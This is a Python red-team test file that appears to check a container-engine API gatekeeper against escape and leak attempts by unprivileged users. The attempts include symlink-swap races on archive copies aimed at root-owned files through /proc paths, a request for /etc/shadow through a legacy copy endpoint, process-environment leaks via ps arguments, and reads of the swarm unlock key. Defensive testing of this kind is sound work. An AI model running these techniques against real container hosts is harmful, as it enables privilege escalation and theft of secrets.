"""Endpoints that lead past their scope: packed archives, builders, lists of the engine's own things."""

from __future__ import annotations

import gzip
import io
import json
import tarfile

from tests.redteam.attack import BOTH, Attack, Response, Threat, asks, encoded, plain_body
from tests.redteam.attacked_machine import AttackedMachine

TRUSTED = "by trusted users only"
GONE = "o such container"
SOCKET = {
    "Connection": "Upgrade",
    "Upgrade": "websocket",
    "Sec_WebSocket_Version": "13",
    "Origin": "http://x",
}
KEY = {"Sec_WebSocket_Key": "MDEyMzQ1Njc4OWFiY2RlZg=="}
BUSY = plain_body(Cmd=["sleep", "100"])


def one_file() -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as tar:
        tar.addfile(tarfile.TarInfo("file"))
    return made.getvalue()


def packed_archive(machine: AttackedMachine) -> Response:
    """Engines look for the program that unpacks it in the container, and run it as root."""
    own = machine.made(BUSY)
    return machine.ask("PUT", f"/containers/{own}/archive?path=/tmp", gzip.compress(one_file()))


def archive_with_a_packed_name(machine: AttackedMachine) -> Response:
    """A plain archive whose first file's name begins as a packed archive does."""
    own = machine.made(BUSY)
    raw = bytearray(one_file())
    raw[:6] = b"\xfd7zXZ\0"
    return machine.ask("PUT", f"/containers/{own}/archive?path=/tmp", bytes(raw))


def copied_while_it_runs(machine: AttackedMachine) -> Response:
    """A program inside puts a link where the engine would mount."""
    own = machine.made(BUSY)
    machine.ask("POST", f"/containers/{own}/start")
    return machine.ask("PUT", f"/containers/{own}/archive?path=/tmp", one_file())


def copied_by_swapped_links(machine: AttackedMachine) -> Response:
    """A program inside swaps a directory for a link to places of the machine, while files go both ways."""
    swaps = f"mkdir d; ln -s d x; while :; do ln -sfn {machine.roots_file.parent} x; ln -sfn d x; done"
    own = machine.made(plain_body(Cmd=["sh", "-c", f"cd /tmp; {swaps}"]))
    machine.ask("POST", f"/containers/{own}/start")
    for _ in range(10):
        machine.ask("PUT", f"/containers/{own}/archive?path=/tmp/x", one_file())
        machine.ask("GET", f"/containers/{own}/archive?path=/tmp/x/file")
    return machine.ask("GET", f"/containers/{own}/archive?path=/tmp")


def _ended(machine: AttackedMachine) -> str:
    own = machine.made(BUSY)
    for step in ("start", "kill", "wait"):
        machine.ask("POST", f"/containers/{own}/{step}")
    return own


def copied_once_it_has_run(machine: AttackedMachine) -> Response:
    """The attacker's process outside has a directory of it open, and puts the link there after the end."""
    return machine.ask("PUT", f"/containers/{_ended(machine)}/archive?path=/tmp", one_file())


SWAPPING = """
import os, threading
top, stop = os.open(at, os.O_RDONLY | os.O_DIRECTORY), threading.Event()
os.mkdir("d", dir_fd=top)
def swap():
    while not stop.is_set():
        for target in (to, "d"):
            os.symlink(target, "new", dir_fd=top)
            os.rename("new", "x", src_dir_fd=top, dst_dir_fd=top)
swapper = threading.Thread(target=swap)
swapper.start()
"""
SWAPPED = "answer = swapper.is_alive(); stop.set(); swapper.join(); os.close(top)"


def copied_by_links_swapped_after_the_end(machine: AttackedMachine) -> Response:
    """The attacker's process outside has /tmp open since the container ran."""
    own = machine.made(BUSY)
    machine.ask("POST", f"/containers/{own}/start")
    pid = machine.as_engine("GET", f"/containers/{own}/json")["State"]["Pid"]
    machine.attacker.python(SWAPPING, at=f"/proc/{pid}/root/tmp", to=str(machine.roots_file.parent))
    for step in ("kill", "wait"):
        machine.ask("POST", f"/containers/{own}/{step}")
    for _ in range(10):
        machine.ask("PUT", f"/containers/{own}/archive?path=/tmp/x", one_file())
        machine.ask("HEAD", f"/containers/{own}/archive?path=/tmp/x/file")
    assert machine.attacker.python(SWAPPED) == "True"
    if not machine.roots_file.stat().st_size:
        return Response(0, "root's file was replaced")
    return machine.ask("PUT", f"/containers/{own}/archive?path=/tmp", one_file())


def read_once_it_has_run(machine: AttackedMachine) -> Response:
    return machine.ask("GET", f"/containers/{_ended(machine)}/archive?path=/tmp")


def copied_with_a_volume(machine: AttackedMachine) -> Response:
    """Another container on the volume puts the link there."""
    host = {"NetworkMode": "none", "Mounts": [{"Type": "volume", "Target": "/x"}]}
    own = machine.made(plain_body(HostConfig=host))
    return machine.ask("PUT", f"/containers/{own}/archive?path=/tmp", one_file())


def bridge_looked_at(machine: AttackedMachine) -> Response:
    """Who is on the engine's own network, and with which address."""
    told = machine.ask("GET", "/networks/none")
    return Response(200) if json.loads(told.message)["Containers"] == {} else Response(0, told.message)


def containers_counted(machine: AttackedMachine) -> Response:
    told = machine.ask("GET", "/info")
    return Response(200) if json.loads(told.message)["ContainersRunning"] == 0 else Response(0, told.message)


def word_in_front_of_the_pid(machine: AttackedMachine) -> Response:
    """The second word of any process's arguments would be told as no number."""
    own = machine.made(BUSY)
    machine.ask("POST", f"/containers/{own}/start")
    return machine.ask("GET", f"/containers/{own}/top?" + encoded(ps_args="-eo args,pid"))


def variables_of_all_processes(machine: AttackedMachine) -> Response:
    own = machine.made(BUSY)
    machine.ask("POST", f"/containers/{own}/start")
    return machine.ask("GET", f"/containers/{own}/top?" + encoded(ps_args="axe"))


ATTACKS = [
    Attack("copy-a-packed-archive", Threat.ROOT, packed_archive, refused="no plain tar"),
    Attack(
        "copy-an-archive-with-a-packed-name", Threat.ROOT, archive_with_a_packed_name, refused="no plain tar"
    ),
    Attack(
        "copy-while-it-runs",
        Threat.ROOT,
        copied_while_it_runs,
        harmless="its user copies, and not the engine",
    ),
    Attack(
        "copy-by-swapped-links",
        Threat.FILES,
        copied_by_swapped_links,
        harmless="they lead where its user may go in it",
    ),
    Attack(
        "copy-once-it-has-run",
        Threat.ROOT,
        copied_once_it_has_run,
        harmless="its user copies, and not the engine",
        on=BOTH,
    ),
    Attack(
        "copy-by-links-swapped-after-the-end",
        Threat.ROOT,
        copied_by_links_swapped_after_the_end,
        harmless="they lead where its user may go in it",
        on=BOTH,
    ),
    Attack(
        "copy-out-once-it-has-run", Threat.ROOT, read_once_it_has_run, harmless="an export follows no link"
    ),
    Attack(
        "copy-with-a-volume",
        Threat.ROOT,
        copied_with_a_volume,
        harmless="its user copies, and nothing is mounted",
    ),
    Attack(
        "anothers-output-by-a-websocket",
        Threat.CONTAINERS,
        asks("GET", "/containers/{box}/attach/ws?stream=1&stdin=1&stdout=1", None, **SOCKET, **KEY),
        refused=GONE,
    ),
    Attack("anothers-beginnings-of-ids", Threat.LEAK, asks("GET", "/containers/{short}/json"), refused=GONE),
    Attack(
        "networks-containers-listed", Threat.LEAK, bridge_looked_at, harmless="one's own containers are shown"
    ),
    Attack("containers-counted", Threat.LEAK, containers_counted, harmless="one's own are counted"),
    Attack("top-with-a-word-before-the-pid", Threat.LEAK, word_in_front_of_the_pid, refused="is not for you"),
    Attack("top-with-variables", Threat.LEAK, variables_of_all_processes, refused="is not for you"),
    Attack("plugins-settings-listed", Threat.LEAK, asks("GET", "/plugins"), refused="trusted users only"),
    Attack(
        "builder-pulled",
        Threat.ROOT,
        asks("POST", "/images/create?" + encoded(fromImage="moby/buildkit", tag="buildx-stable-1")),
        refused=TRUSTED,
    ),
    Attack(
        "all-tags-pulled",
        Threat.SHARED,
        asks("POST", "/images/create?" + encoded(fromImage="registry.example/x")),
        refused="names no tag",
    ),
    Attack(
        "link-between-containers-removed",
        Threat.CONTAINERS,
        asks("DELETE", "/containers/{box}?link=1&force=1"),
        refused="link is not for you",
    ),
    Attack(
        "files-copied-by-the-old-way",
        Threat.FILES,
        asks("POST", "/v1.23/containers/{box}/copy", {"Resource": "/etc/shadow"}),
        refused="has left the engine's API",
    ),
    Attack("swarms-key-read", Threat.LEAK, asks("GET", "/swarm/unlockkey"), refused="is no swarm"),
]
